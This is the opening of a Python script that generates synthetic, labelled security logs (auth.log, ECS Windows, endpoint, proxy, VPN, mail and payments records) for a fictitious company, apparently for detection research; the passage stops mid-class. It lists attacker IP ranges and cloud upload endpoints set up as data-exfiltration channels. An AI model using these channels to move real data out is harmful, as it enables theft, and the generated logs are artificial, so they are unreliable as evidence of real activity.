#!/usr/bin/env python3
"""
Independent synthetic, labelled security-log corpus generator (stdlib only).

Produces, for a fictitious organisation:
  logs/auth.log                      Linux auth.log (sshd, pam_unix, sudo, su, useradd/usermod/
                                     groupadd/gpasswd, CRON, systemd-logind) from ~25 servers.
                                     Half the servers write classic RFC 3164 stamps in UTC
                                     ("Jan 15 08:01:02 host prog[pid]: msg"), the other half
                                     rsyslog high-precision ISO-8601 stamps in the HQ offset
                                     ("2024-01-15T03:01:02.123456-05:00 host prog[pid]: msg").
                                     One file, sorted by true time.
  logs/ecs/*.ndjson                  Elastic Common Schema documents (nested JSON, one per line):
     windows-security.ndjson          winlogbeat Security channel (4624/4625/4634/4647/4648/4672/
                                      4768/4720/4728/4732)
     endpoint-file.ndjson             Elastic Defend style file events
     endpoint-process.ndjson          Elastic Defend style process events
     endpoint-device.ndjson           device-control style USB events
     proxy.ndjson                     cloud web proxy (Zscaler-like) access log via filebeat
     vpn.ndjson                       GlobalProtect-like VPN gateway log
     email.ndjson                     mail gateway / message-trace (sent mail)
     payments.ndjson                  treasury / payments application audit log
  labels.json                        ground truth

Deterministic for a given --seed/--users/--days.
"""
import argparse
import calendar
import datetime as dt
import hashlib
import json
import math
import os
import random
import time

# ----------------------------------------------------------------------------------------------
# small helpers
# ----------------------------------------------------------------------------------------------
MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']


def h32(s):
    return int(hashlib.md5(s.encode()).hexdigest()[:8], 16)


def poisson(rng, lam):
    if lam <= 0:
        return 0
    if lam < 30:
        L = math.exp(-lam)
        k, p = 0, 1.0
        while True:
            p *= rng.random()
            if p <= L:
                return k
            k += 1
    return max(0, int(round(rng.gauss(lam, math.sqrt(lam)))))


def split_args(cmd, exe):
    """rough argv split that keeps a quoted or space-containing executable path together"""
    c = cmd.strip()
    if c.startswith('"'):
        end = c.find('"', 1)
        first, rest = c[1:end], c[end + 1:]
    elif c.startswith(exe):
        first, rest = exe, c[len(exe):]
    else:
        parts = c.split(' ', 1)
        first, rest = parts[0], (parts[1] if len(parts) > 1 else '')
    return [first] + rest.split()[:12]


def wchoice(rng, items, weights):
    return rng.choices(items, weights=weights, k=1)[0]


def zipf_weights(n, s=1.0):
    return [1.0 / ((i + 1) ** s) for i in range(n)]


def fmt_ecs(ts):
    g = time.gmtime(int(ts))
    ms = int((ts - int(ts)) * 1000)
    return '%04d-%02d-%02dT%02d:%02d:%02d.%03dZ' % (g.tm_year, g.tm_mon, g.tm_mday, g.tm_hour,
                                                  g.tm_min, g.tm_sec, ms)


def fmt_rfc3164(ts):
    g = time.gmtime(int(ts))
    return '%s %2d %02d:%02d:%02d' % (MON[g.tm_mon - 1], g.tm_mday, g.tm_hour, g.tm_min, g.tm_sec)


def fmt_iso_off(ts, off_h):
    lt = ts + off_h * 3600
    g = time.gmtime(int(lt))
    us = int((lt - int(lt)) * 1e6)
    sign = '+' if off_h >= 0 else '-'
    a = abs(off_h)
    hh, mm = int(a), int(round((a - int(a)) * 60))
    return '%04d-%02d-%02dT%02d:%02d:%02d.%06d%s%02d:%02d' % (
        g.tm_year, g.tm_mon, g.tm_mday, g.tm_hour, g.tm_min, g.tm_sec, us, sign, hh, mm)


PUBLIC_HOME_OCTETS = {
    'US': [24, 47, 67, 68, 71, 73, 76, 98, 99, 107, 108, 173, 174],
    'GB': [2, 31, 81, 82, 86, 90, 92, 109, 151, 176, 212],
    'DE': [2, 31, 46, 77, 79, 84, 87, 91, 93, 178, 217],
    'IN': [27, 49, 59, 103, 106, 110, 117, 122, 182, 223],
}

ATTACKER_NETS = [('185.220.101', 'DE'), ('45.155.205', 'RU'), ('193.32.162', 'NL'),
                 ('91.240.118', 'RU'), ('141.98.10', 'LT'), ('5.188.206', 'RU'),
                 ('103.145.13', 'VN'), ('194.26.29', 'RU'), ('179.43.128', 'CH'),
                 ('61.177.172', 'CN'), ('218.92.0', 'CN'), ('222.186.30', 'CN'),
                 ('89.248.165', 'NL'), ('45.227.254', 'PA'), ('177.87.57', 'BR')]


def public_ip(rng, country):
    o = rng.choice(PUBLIC_HOME_OCTETS[country])
    return '%d.%d.%d.%d' % (o, rng.randint(1, 254), rng.randint(0, 254), rng.randint(1, 254))


def dom_ip(domain):
    h = h32(domain)
    firsts = [13, 20, 23, 34, 35, 40, 52, 54, 104, 108, 142, 151, 157, 185, 199, 216]
    return '%d.%d.%d.%d' % (firsts[h % len(firsts)], (h >> 4) & 255, (h >> 12) & 255,
                            1 + ((h >> 20) % 253))


def b64ish(s, n):
    alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
    out = []
    x = hashlib.sha256(s.encode()).digest()
    while len(out) < n:
        for b in x:
            out.append(alphabet[b % 64])
        x = hashlib.sha256(x).digest()
    return ''.join(out[:n])


# ----------------------------------------------------------------------------------------------
# vocabularies
# ----------------------------------------------------------------------------------------------
FIRST = ['james', 'mary', 'john', 'patricia', 'robert', 'jennifer', 'michael', 'linda', 'william',
         'elizabeth', 'david', 'barbara', 'richard', 'susan', 'joseph', 'jessica', 'thomas', 'sarah',
         'charles', 'karen', 'daniel', 'nancy', 'matthew', 'lisa', 'anthony', 'betty', 'mark',
         'sandra', 'steven', 'ashley', 'paul', 'emily', 'andrew', 'donna', 'joshua', 'michelle',
         'kevin', 'carol', 'brian', 'amanda', 'george', 'melissa', 'timothy', 'deborah', 'ronald',
         'laura', 'jason', 'rebecca', 'ryan', 'sharon', 'jacob', 'cynthia', 'gary', 'kathleen',
         'nicholas', 'amy', 'eric', 'angela', 'jonathan', 'helen', 'aisha', 'arjun', 'priya',
         'rahul', 'ananya', 'vikram', 'fatima', 'omar', 'ahmed', 'layla', 'yusuf', 'mei', 'wei',
         'li', 'hiroshi', 'yuki', 'kenji', 'sakura', 'chen', 'jin', 'min', 'sofia', 'lucas',
         'mateo', 'valentina', 'diego', 'camila', 'javier', 'lucia', 'pablo', 'elena', 'ivan',
         'olga', 'dmitri', 'anna', 'katarzyna', 'piotr', 'lukas', 'lena', 'jonas', 'hannah',
         'felix', 'mia', 'noah', 'emma', 'liam', 'olivia', 'oliver', 'amelia', 'chloe', 'kwame',
         'amara', 'chidi', 'ngozi', 'tariq', 'samir', 'nadia', 'zara', 'ines', 'tomas', 'marta',
         'sven', 'ingrid', 'niamh', 'sean', 'siobhan', 'connor', 'rhys', 'megan', 'callum', 'isla']
LAST = ['smith', 'johnson', 'williams', 'brown', 'jones', 'garcia', 'miller', 'davis', 'rodriguez',
        'martinez', 'hernandez', 'lopez', 'gonzalez', 'wilson', 'anderson', 'thomas', 'taylor',
        'moore', 'jackson', 'martin', 'lee', 'perez', 'thompson', 'white', 'harris', 'sanchez',
        'clark', 'ramirez', 'lewis', 'robinson', 'walker', 'young', 'allen', 'king', 'wright',
        'scott', 'torres', 'nguyen', 'hill', 'flores', 'green', 'adams', 'nelson', 'baker', 'hall',
        'rivera', 'campbell', 'mitchell', 'carter', 'roberts', 'khan', 'patel', 'shah', 'singh',
        'kumar', 'gupta', 'sharma', 'iyer', 'reddy', 'nair', 'ali', 'hussain', 'rahman', 'haddad',
        'mansour', 'wang', 'zhang', 'liu', 'chen', 'yang', 'huang', 'zhao', 'wu', 'zhou', 'tanaka',
        'suzuki', 'takahashi', 'watanabe', 'ito', 'kim', 'park', 'choi', 'jung', 'muller',
        'schmidt', 'schneider', 'fischer', 'weber', 'meyer', 'wagner', 'becker', 'hoffmann',
        'schulz', 'koch', 'richter', 'klein', 'wolf', 'novak', 'kowalski', 'nowak', 'wisniewski',
        'ivanov', 'petrov', 'smirnov', 'rossi', 'russo', 'ferrari', 'esposito', 'bianchi',
        'romano', 'dubois', 'moreau', 'laurent', 'simon', 'michel', 'lefebvre', 'murphy', 'kelly',
        'obrien', 'byrne', 'walsh', 'ryan', 'okafor', 'adeyemi', 'mensah', 'owusu', 'abubakar',
        'silva', 'santos', 'oliveira', 'souza', 'pereira', 'costa', 'jensen', 'nielsen', 'hansen',
        'larsen', 'andersson', 'johansson', 'karlsson', 'lindberg', 'evans', 'hughes', 'morgan']

COMPANIES = ['kestrelworks', 'brightwater', 'halvorsen', 'marlowegroup', 'tidewell', 'ashgrove',
             'pinecrest', 'redfernlabs', 'corvidia', 'northgate']

DEPTS = {
    # share, start mean, start sd (between users), day length, weekend prob range,
    # file median, web median, email median, proc median
    'engineering': dict(share=.30, start=9.4, start_sd=.8, length=8.6, wk=(.03, .25), file=40,
                        web=70, email=8, proc=26),
    'sales': dict(share=.17, start=8.5, start_sd=.6, length=8.8, wk=(.01, .12), file=18, web=75,
                  email=28, proc=14),
    'finance': dict(share=.12, start=8.1, start_sd=.5, length=8.7, wk=(.0, .08), file=35, web=45,
                    email=16, proc=16),
    'hr': dict(share=.06, start=8.4, start_sd=.5, length=8.4, wk=(.0, .05), file=25, web=50,
               email=22, proc=12),
    'it': dict(share=.07, start=8.2, start_sd=.6, length=9.0, wk=(.08, .30), file=20, web=60,
               email=12, proc=30),
    'marketing': dict(share=.11, start=9.0, start_sd=.6, length=8.3, wk=(.01, .10), file=30,
                      web=85, email=18, proc=14),
    'support': dict(share=.11, start=8.0, start_sd=.9, length=8.5, wk=(.05, .25), file=12, web=60,
                    email=30, proc=12),
    'legal': dict(share=.06, start=8.8, start_sd=.5, length=9.0, wk=(.0, .10), file=28, web=35,
                  email=20, proc=10),
}
DEPT_ORDER = ['engineering', 'sales', 'finance', 'hr', 'it', 'marketing', 'support', 'legal']

LINUX_SERVERS = [
    ('bastion-01', 'bastion'), ('web-01', 'web'), ('web-02', 'web'), ('web-03', 'web'),
    ('app-01', 'app'), ('app-02', 'app'), ('app-03', 'app'), ('app-04', 'app'),
    ('db-01', 'db'), ('db-02', 'db'), ('db-03', 'db'), ('build-01', 'build'), ('build-02', 'build'),
    ('git-01', 'git'), ('mon-01', 'mgmt'), ('k8s-node-01', 'k8s'), ('k8s-node-02', 'k8s'),
    ('k8s-node-03', 'k8s'), ('k8s-node-04', 'k8s'), ('etl-01', 'data'), ('etl-02', 'data'),
    ('backup-01', 'backup'), ('ldap-01', 'infra'), ('fin-app-01', 'finapp'), ('hr-app-01', 'hrapp'),
    ('dev-01', 'dev'), ('dev-02', 'dev'), ('dev-03', 'dev'), ('stage-01', 'stage'),
]
WIN_SERVERS = ['dc01', 'dc02', 'fs01', 'fs02', 'sql01', 'sql02', 'app-w01', 'app-w02', 'rdsh01',
               'print01', 'sccm01', 'ca01', 'iis01', 'wsus01', 'veeam01', 'hv01', 'hv02', 'erp01']

SERVICE_BY_ROLE = {'web': ['nginx', 'php8.1-fpm'], 'app': ['app-api', 'app-worker'],
                   'db': ['postgresql', 'pgbouncer'], 'build': ['jenkins', 'docker'],
                   'git': ['gitlab-runsvdir', 'nginx'], 'mgmt': ['prometheus', 'grafana-server'],
                   'k8s': ['kubelet', 'containerd'], 'data': ['airflow-scheduler', 'spark-worker'],
                   'backup': ['bacula-fd', 'rsync'], 'infra': ['slapd', 'named'],
                   'finapp': ['treasury-api', 'nginx'], 'hrapp': ['hris-api', 'nginx'],
                   'dev': ['docker', 'app-api'], 'stage': ['app-api', 'nginx'],
                   'bastion': ['ssh', 'fail2ban']}

COMMON_DOMAINS = ['www.google.com', 'outlook.office365.com', 'login.microsoftonline.com',
                  'teams.microsoft.com', '{co}.sharepoint.com', '{co}-my.sharepoint.com',
                  'www.bing.com', 'www.youtube.com', 'www.linkedin.com', 'en.wikipedia.org',
                  'www.bbc.co.uk', 'www.nytimes.com', 'www.amazon.com', 'weather.com',
                  'zoom.us', 'fonts.googleapis.com', 'ajax.googleapis.com', 'www.msn.com',
                  'ocsp.digicert.com', 'ctldl.windowsupdate.com', 'www.reddit.com',
                  'clients4.google.com', 'www.office.com', 'graph.microsoft.com',
                  'update.googleapis.com', 'www.cnn.com', 'x.com', 'www.theguardian.com']
DEPT_DOMAINS = {
    'engineering': ['github.com', 'api.github.com', 'stackoverflow.com', 'pypi.org',
                    'files.pythonhosted.org', 'registry.npmjs.org', 'docs.python.org',
                    'hub.docker.com', 'console.aws.amazon.com', 's3.amazonaws.com',
                    'developer.mozilla.org', 'objects.githubusercontent.com', 'go.dev',
                    'docs.docker.com', 'kubernetes.io', 'news.ycombinator.com',
                    'registry-1.docker.io', 'chat.openai.com'],
    'sales': ['{co}.my.salesforce.com', 'www.zoominfo.com', 'app.hubspot.com',
              'app.docusign.com', 'app.gong.io', 'www.linkedin.com', 'calendly.com',
              'www.crunchbase.com'],
    'finance': ['{co}.netsuite.com', 'www.xe.com', 'www.bloomberg.com', 'app.expensify.com',
                'www.irs.gov', 'secure.chase.com', 'www.wsj.com', 'app.bill.com', 'www.ft.com'],
    'hr': ['{co}.workday.com', 'www.linkedin.com', 'www.indeed.com', 'www.glassdoor.com',
           'www.shrm.org', 'app.greenhouse.io', 'www.adp.com', 'www.bamboohr.com'],
    'it': ['portal.azure.com', 'admin.microsoft.com', 'learn.microsoft.com',
           'www.virustotal.com', 'github.com', 'community.spiceworks.com', 'access.redhat.com',
           'ubuntu.com', 'security.ubuntu.com', 'support.microsoft.com', 'www.shodan.io',
           'console.aws.amazon.com', 'status.cloud.google.com', 'serverfault.com'],
    'marketing': ['www.canva.com', 'ads.google.com', 'analytics.google.com',
                  'business.facebook.com', 'www.figma.com', 'wetransfer.com', 'www.hootsuite.com',
                  'www.semrush.com', 'mailchimp.com', 'www.instagram.com', 'vimeo.com'],
    'support': ['{co}.zendesk.com', 'www.teamviewer.com', 'status.{co}.com',
                'docs.{co}.com', 'community.{co}.com', 'www.loom.com'],
    'legal': ['www.westlaw.com', 'www.lexisnexis.com', 'app.docusign.com', 'www.law.cornell.edu',
              'www.sec.gov', 'eur-lex.europa.eu'],
}
PERSONAL_DOMAINS = ['www.espn.com', 'www.ebay.com', 'www.etsy.com', 'open.spotify.com',
                    'www.netflix.com', 'www.instagram.com', 'www.facebook.com', 'mail.google.com',
                    'www.booking.com', 'www.airbnb.com', 'www.icloud.com', 'www.imdb.com',
                    'www.tripadvisor.com', 'www.pinterest.com', 'www.twitch.tv',
                    'www.bestbuy.com', 'www.zillow.com', 'www.allrecipes.com', 'www.skysports.com',
                    'www.strava.com', 'www.duolingo.com', 'web.whatsapp.com']
NORMAL_CLOUD = ['drive.google.com', 'www.dropbox.com', 'app.box.com']
JOB_DOMAINS = ['www.indeed.com', 'www.glassdoor.com', 'www.monster.com', 'www.ziprecruiter.com',
               'jobs.lever.co', 'boards.greenhouse.io', 'www.dice.com', 'wellfound.com',
               'www.hired.com', 'careers.{rival}.com']
# (ui domain, upload domain, upload path template)
EXFIL_CLOUD = [
    ('mega.nz', 'gfs{n}.userstorage.mega.co.nz', '/ul/{tok}'),
    ('www.dropbox.com', 'content.dropboxapi.com', '/2/files/upload_session/append_v2'),
    ('drive.google.com', 'www.googleapis.com', '/upload/drive/v3/files?uploadType=resumable&upload_id={tok}'),
    ('wetransfer.com', 'storm-eu-west-1.wetransfer.net', '/api/v2/chunks/{tok}'),
    ('www.mediafire.com', 'ul.mediafire.com', '/api/1.5/upload/resumable.php'),
    ('www.pcloud.com', 'api.pcloud.com', '/uploadfile'),
    ('transfer.sh', 'transfer.sh', '/{tok}/archive.zip'),
]

UA_WIN = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) '
          'Chrome/120.0.0.0 Safari/537.36',
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) '
          'Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91',
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0']
UA_MAC = ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) '
          'Chrome/120.0.0.0 Safari/537.36',
          'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2_1) AppleWebKit/605.1.15 (KHTML, like Gecko) '
          'Version/17.2 Safari/605.1.15']

WORDS = ['report', 'summary', 'budget', 'forecast', 'plan', 'notes', 'minutes', 'draft', 'final',
         'review', 'proposal', 'contract', 'invoice', 'q1', 'q2', 'q3', 'q4', 'roadmap', 'status',
         'customers', 'pipeline', 'accounts', 'payroll', 'headcount', 'policy', 'template',
         'presentation', 'analysis', 'metrics', 'kpi', 'onboarding', 'design', 'spec', 'audit',
         'vendor', 'pricing', 'board', 'strategy', 'campaign', 'leads', 'backlog', 'release',
         'incident', 'postmortem', 'architecture', 'benefits', 'compensation', 'renewal', 'nda',
         'litigation', 'compliance', 'tickets', 'faq', 'training', 'migration', 'inventory']
DEPT_EXT = {'engineering': ['py', 'go', 'ts', 'java', 'yaml', 'md', 'json', 'sql', 'sh', 'tf'],
            'sales': ['xlsx', 'pptx', 'docx', 'pdf', 'csv'],
            'finance': ['xlsx', 'xlsx', 'xlsx', 'pdf', 'csv', 'docx'],
            'hr': ['docx', 'pdf', 'xlsx', 'docx'], 'it': ['ps1', 'txt', 'log', 'xlsx', 'csv', 'json'],
            'marketing': ['pptx', 'png', 'jpg', 'psd', 'docx', 'mp4', 'pdf'],
            'support': ['txt', 'docx', 'pdf', 'png', 'log'],
            'legal': ['docx', 'pdf', 'pdf', 'docx', 'msg']}
EXT_SIZE = {'py': 6e3, 'go': 8e3, 'ts': 5e3, 'java': 9e3, 'yaml': 2e3, 'md': 4e3, 'json': 12e3,
            'sql': 5e3, 'sh': 2e3, 'tf': 3e3, 'xlsx': 150e3, 'pptx': 2.5e6, 'docx': 90e3,
            'pdf': 600e3, 'csv': 300e3, 'ps1': 4e3, 'txt': 3e3, 'log': 200e3, 'png': 400e3,
            'jpg': 900e3, 'psd': 25e6, 'mp4': 80e6, 'msg': 120e3, 'zip': 40e6, '7z': 60e6,
            'tmp': 50e3, 'lnk': 2e3}
EXT_APP = {'py': 'Code.exe', 'go': 'Code.exe', 'ts': 'Code.exe', 'java': 'idea64.exe',
           'yaml': 'Code.exe', 'md': 'Code.exe', 'json': 'Code.exe', 'sql': 'Code.exe',
           'sh': 'Code.exe', 'tf': 'Code.exe', 'xlsx': 'EXCEL.EXE', 'pptx': 'POWERPNT.EXE',
           'docx': 'WINWORD.EXE', 'pdf': 'Acrobat.exe', 'csv': 'EXCEL.EXE', 'ps1': 'powershell_ise.exe',
           'txt': 'notepad.exe', 'log': 'notepad.exe', 'png': 'explorer.exe', 'jpg': 'explorer.exe',
           'psd': 'Photoshop.exe', 'mp4': 'explorer.exe', 'msg': 'OUTLOOK.EXE'}
MAC_APP = {'EXCEL.EXE': 'Microsoft Excel', 'WINWORD.EXE': 'Microsoft Word',
           'POWERPNT.EXE': 'Microsoft PowerPoint', 'Code.exe': 'Code Helper', 'idea64.exe': 'idea',
           'Acrobat.exe': 'Preview', 'notepad.exe': 'TextEdit', 'explorer.exe': 'Finder',
           'powershell_ise.exe': 'zsh', 'Photoshop.exe': 'Adobe Photoshop 2024',
           'OUTLOOK.EXE': 'Microsoft Outlook'}

PROC_COMMON = [('chrome.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 8),
               ('msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', 3),
               ('OUTLOOK.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 4),
               ('ms-teams.exe', 'C:\\Program Files\\WindowsApps\\MSTeams_23335.232.2637.4844_x64__8wekyb3d8bbwe\\ms-teams.exe', 3),
               ('WINWORD.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 3),
               ('EXCEL.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 3),
               ('POWERPNT.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE', 1),
               ('explorer.exe', 'C:\\Windows\\explorer.exe', 2),
               ('notepad.exe', 'C:\\Windows\\System32\\notepad.exe', 1),
               ('Acrobat.exe', 'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe', 1),
               ('Zoom.exe', 'C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe', 1),
               ('OneDrive.exe', 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', 1)]
PROC_DEPT = {
    'engineering': [('Code.exe', 'C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', 6),
                    ('git.exe', 'C:\\Program Files\\Git\\cmd\\git.exe', 6),
                    ('python.exe', 'C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe', 3),
                    ('WindowsTerminal.exe', 'C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.18.3181.0_x64__8wekyb3d8bbwe\\WindowsTerminal.exe', 3),
                    ('ssh.exe', 'C:\\Windows\\System32\\OpenSSH\\ssh.exe', 3),
                    ('docker.exe', 'C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe', 2),
                    ('node.exe', 'C:\\Program Files\\nodejs\\node.exe', 2),
                    ('cmd.exe', 'C:\\Windows\\System32\\cmd.exe', 2),
                    ('powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 1)],
    'it': [('powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 6),
           ('mmc.exe', 'C:\\Windows\\System32\\mmc.exe', 3),
           ('mstsc.exe', 'C:\\Windows\\System32\\mstsc.exe', 4),
           ('cmd.exe', 'C:\\Windows\\System32\\cmd.exe', 3),
           ('putty.exe', 'C:\\Program Files\\PuTTY\\putty.exe', 2),
           ('ssh.exe', 'C:\\Windows\\System32\\OpenSSH\\ssh.exe', 3),
           ('ServerManager.exe', 'C:\\Windows\\System32\\ServerManager.exe', 1),
           ('wireshark.exe', 'C:\\Program Files\\Wireshark\\Wireshark.exe', 1)],
    'finance': [('EXCEL.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 6),
                ('saplogon.exe', 'C:\\Program Files (x86)\\SAP\\FrontEnd\\SAPgui\\saplogon.exe', 2)],
    'marketing': [('Photoshop.exe', 'C:\\Program Files\\Adobe\\Adobe Photoshop 2024\\Photoshop.exe', 2),
                  ('Figma.exe', 'C:\\Users\\{u}\\AppData\\Local\\Figma\\Figma.exe', 2)],
    'support': [('TeamViewer.exe', 'C:\\Program Files\\TeamViewer\\TeamViewer.exe', 2),
                ('notepad++.exe', 'C:\\Program Files\\Notepad++\\notepad++.exe', 2)],
}
CMDLINES = {
    'git.exe': ['git pull', 'git status', 'git commit -m "fix {w}"', 'git push origin feature/{w}',
                'git fetch --all', 'git checkout -b feature/{w}', 'git log --oneline -20'],
    'python.exe': ['python -m pytest tests/', 'python manage.py runserver', 'python scripts\\{w}.py',
                   'python -m pip install -r requirements.txt'],
    'powershell.exe': ['powershell.exe -NoProfile', 'powershell.exe Get-ADUser -Filter *',
                       'powershell.exe Get-Service | Where Status -eq Running',
                       'powershell.exe Test-NetConnection {h} -Port 443',
                       'powershell.exe Get-EventLog -LogName System -Newest 50'],
    'cmd.exe': ['cmd.exe /c ipconfig /all', 'cmd.exe', 'cmd.exe /c ping {h}',
                'cmd.exe /c nslookup {h}'],
    'ssh.exe': ['ssh {u}@{h}', 'ssh -A {u}@{h}'],
    'docker.exe': ['docker ps', 'docker compose up -d', 'docker build -t app:dev .'],
    'mstsc.exe': ['mstsc.exe /v:{h}'],
    'mmc.exe': ['"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"',
                '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\gpmc.msc"'],
}
PARENT_BY_PROC = {'git.exe': 'WindowsTerminal.exe', 'python.exe': 'WindowsTerminal.exe',
                  'ssh.exe': 'WindowsTerminal.exe', 'docker.exe': 'WindowsTerminal.exe',
                  'node.exe': 'Code.exe', 'cmd.exe': 'explorer.exe',
                  'powershell.exe': 'explorer.exe'}

SYSTEM_PROCS = [('svchost.exe', 'C:\\Windows\\System32\\svchost.exe', 'services.exe',
                 'svchost.exe -k netsvcs -p -s Schedule'),
                ('taskhostw.exe', 'C:\\Windows\\System32\\taskhostw.exe', 'svchost.exe',
                 'taskhostw.exe'),
                ('MicrosoftEdgeUpdate.exe', 'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe',
                 'svchost.exe', '"MicrosoftEdgeUpdate.exe" /ua /installsource scheduler'),
                ('MpCmdRun.exe', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe',
                 'MsMpEng.exe', 'MpCmdRun.exe -SignaturesUpdateService -ScheduleJob'),
                ('CompatTelRunner.exe', 'C:\\Windows\\System32\\CompatTelRunner.exe', 'svchost.exe',
                 'C:\\Windows\\system32\\compattelrunner.exe -maintenance')]

LOGON_TYPE = {2: 'Interactive', 3: 'Network', 4: 'Batch', 5: 'Service', 7: 'Unlock',
              10: 'RemoteInteractive', 11: 'CachedInteractive'}

USB_MODELS = [('SanDisk', 'Ultra USB 3.0', '0781', '5581'), ('Kingston', 'DataTraveler 3.0', '0951', '1666'),
              ('Samsung', 'Flash Drive FIT', '090c', '1000'), ('Seagate', 'Expansion HDD', '0bc2', '2322'),
              ('WD', 'My Passport 25E2', '1058', '25e2'), ('Lexar', 'JumpDrive S47', '21c4', '0cd1'),
              ('Toshiba', 'TransMemory', '0930', '6545'), ('PNY', 'USB 2.0 FD', '154b', '005b')]

CURRENCY = {'US': 'USD', 'GB': 'GBP', 'DE': 'EUR', 'IN': 'INR'}
VENDOR_A = ['Acme', 'Globex', 'Initech', 'Umbrella', 'Stark', 'Wayne', 'Hooli', 'Vandelay', 'Soylent',
            'Cyberdyne', 'Tyrell', 'Wonka', 'Gringotts', 'Oceanic', 'Monarch', 'Nakatomi',
            'Prestige', 'Sterling', 'Dunder', 'Pied Piper', 'Massive', 'Virtucon', 'Gekko',
            'Blue Sun', 'Aperture', 'Black Mesa', 'Zorg', 'Octan', 'Buy n Large', 'Krusty']
VENDOR_B = ['Industries', 'Logistics', 'Supplies', 'Consulting', 'Software', 'Holdings', 'Partners',
            'Services', 'Systems', 'Trading', 'Components', 'Facilities', 'Media', 'Analytics']
COUNTRIES_FOREIGN = ['CY', 'AE', 'HK', 'LV', 'MT', 'SC', 'PA', 'TR', 'LT', 'BG', 'VG']


# ----------------------------------------------------------------------------------------------
# output sink: buffers events per UTC day, flushes sorted
# ----------------------------------------------------------------------------------------------
STREAMS = {
    'auth': 'auth.log',
    'win': 'ecs/windows-security.ndjson',
    'file': 'ecs/endpoint-file.ndjson',
    'proc': 'ecs/endpoint-process.ndjson',
    'dev': 'ecs/endpoint-device.ndjson',
    'proxy': 'ecs/proxy.ndjson',
    'vpn': 'ecs/vpn.ndjson',
    'mail': 'ecs/email.ndjson',
    'pay': 'ecs/payments.ndjson',
}


class Sink:
    def __init__(self, out, t0, ndays, org):
        self.org = org
        self.t0 = t0
        self.t1 = t0 + ndays * 86400
        self.buckets = {s: {} for s in STREAMS}
        os.makedirs(os.path.join(out, 'logs', 'ecs'), exist_ok=True)
        self.paths = {s: os.path.join(out, 'logs', p) for s, p in STREAMS.items()}
        self.files = {s: open(self.paths[s], 'w', encoding='utf-8', newline='\n') for s in STREAMS}
        self.seq = 0
        self.counts = {s: 0 for s in STREAMS}
        self.flushed_upto = -10
        self.tag_days = {}
        self.tag_counts = {}

    def add(self, stream, ts, rec, tag=None):
        if ts < self.t0 or ts >= self.t1:
            return False
        day = int((ts - self.t0) // 86400)
        if day <= self.flushed_upto:
            raise RuntimeError('event for already flushed day %d (%s)' % (day, stream))
        self.seq += 1
        self.buckets[stream].setdefault(day, []).append((ts, self.seq, rec))
        if tag is not None:
            self.tag_days.setdefault(tag, set()).add(day)
            self.tag_counts[tag] = self.tag_counts.get(tag, 0) + 1
        return True

    def render(self, stream, ts, rec):
        if stream == 'auth':
            host, prog, pid, msg = rec
            hinfo = self.org.lin[host]
            if hinfo['style'] == 'rfc':
                stamp = fmt_rfc3164(ts)
            else:
                stamp = fmt_iso_off(ts, self.org.hq_tz)
            if pid is None:
                return '%s %s %s: %s' % (stamp, host, prog, msg)
            return '%s %s %s[%d]: %s' % (stamp, host, prog, pid, msg)
        d = {'@timestamp': fmt_ecs(ts)}
        d.update(rec)
        return json.dumps(d, separators=(',', ':'))

    def flush(self, upto_day):
        for s, b in self.buckets.items():
            f = self.files[s]
            for day in sorted(k for k in b if k <= upto_day):
                items = b.pop(day)
                items.sort(key=lambda x: (x[0], x[1]))
                f.write('\n'.join(self.render(s, ts, rec) for ts, _, rec in items))
                f.write('\n')
                self.counts[s] += len(items)
        self.flushed_upto = max(self.flushed_upto, upto_day)

    def close(self):
        self.flush(10 ** 9)
        for f in self.files.values():
            f.close()


# ----------------------------------------------------------------------------------------------
# the organisation
# ----------------------------------------------------------------------------------------------
class User:
    pass


class Org:
    def __init__(self, seed, n_users, n_days):
        self.seed = seed
        self.n_days = n_days
        rng = random.Random('org:%d' % seed)
        self.rng = rng
        co = COMPANIES[seed % len(COMPANIES)]
        self.co = co
        self.rival = COMPANIES[(seed + 3) % len(COMPANIES)]
        self.domain = co + '.com'
        self.ad_domain = 'corp.' + co + '.com'
        self.netbios = co.upper()[:12]
        self.dom_sid = 'S-1-5-21-%d-%d-%d' % (rng.randint(10 ** 9, 4 * 10 ** 9 - 1),
                                               rng.randint(10 ** 9, 4 * 10 ** 9 - 1),
                                               rng.randint(10 ** 8, 10 ** 9))
        if seed % 2 == 1:
